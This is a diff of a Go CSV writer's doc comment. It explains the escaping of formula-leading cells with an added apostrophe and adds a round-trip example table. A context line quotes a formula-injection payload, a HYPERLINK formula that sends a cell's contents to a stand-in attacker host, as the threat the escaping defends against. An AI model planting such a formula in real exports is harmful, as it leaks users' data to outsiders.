@@ -405,13 +405,18 @@ func mapMark(s string) string {
 // title like =HYPERLINK("http://evil.example/?x="&A1,"click") would leak
 // the sheet when clicked. So every cell that starts with zero or more
 // apostrophes and then one of those characters is written with one more
-// apostrophe in front ("=1+1" → "'=1+1", "'=x" → "''=x"), which
-// spreadsheets show as text; the reader takes exactly one leading
-// apostrophe off a cell that starts with one or more apostrophes and then
-// one of those characters. Any other cell, one that starts with an
-// apostrophe included ("'Tis the season"), is written and read as it is,
-// so every value round-trips and a file from another tool loses an
-// apostrophe only where this rule put one.
+// apostrophe in front, which spreadsheets show as text; the reader takes
+// exactly one leading apostrophe off a cell that starts with one or more
+// apostrophes and then one of those characters:
+//
+//	value          cell written    read back
+//	=1+1           '=1+1           =1+1
+//	'=x            ''=x            '=x
+//	'Tis a title   'Tis a title    'Tis a title
+//
+// Any other cell, one that starts with an apostrophe before anything else
+// included, is written and read as it is, so every value round-trips and a
+// file from another tool loses an apostrophe only where this rule put one.
 type Writer struct {
 	cw      *csv.Writer
 	started bool
